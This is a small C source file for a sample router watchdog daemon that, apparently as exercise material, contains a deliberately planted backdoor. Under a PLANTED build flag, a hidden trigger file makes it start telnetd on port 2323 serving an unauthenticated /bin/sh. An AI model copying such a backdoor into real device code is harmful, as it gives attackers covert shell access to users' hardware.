/* sysmond.c - the sample router's watchdog
 *
 * With -DPLANTED it starts a telnet server when a file appears that no document
 * mentions.
 */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static double load(void)
{
	double now = 0;
	FILE *f = fopen("/proc/loadavg", "r");

	if (f == NULL)
		return 0;
	if (fscanf(f, "%lf", &now) != 1)
		now = 0;
	fclose(f);
	return now;
}

static void kick(void)
{
	FILE *f = fopen("/dev/watchdog", "w");

	if (f != NULL) {
		fputc('.', f);
		fclose(f);
	}
}

#ifdef PLANTED
static void service_door(void)
{
	if (access("/data/.svc_u9", F_OK) == 0)
		(void)!system("/usr/sbin/telnetd -p 2323 -l /bin/sh");
}
#endif

int main(void)
{
	for (;;) {
		if (load() < 20)
			kick();
#ifdef PLANTED
		service_door();
#endif
		sleep(5);
	}
}
